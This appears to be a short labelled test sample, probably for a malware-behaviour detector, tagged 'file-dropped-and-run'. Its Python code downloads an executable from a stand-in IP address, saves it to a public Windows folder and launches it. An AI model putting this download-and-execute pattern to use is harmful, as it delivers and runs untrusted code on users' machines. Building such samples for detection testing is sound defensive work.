# expect: 6 file-dropped-and-run
import requests, os
r = requests.get('http://198.51.100.7/a.exe')
with open('C:\\Users\\Public\\a.exe', 'wb') as f:
    f.write(r.content)
os.startfile('C:\\Users\\Public\\a.exe')
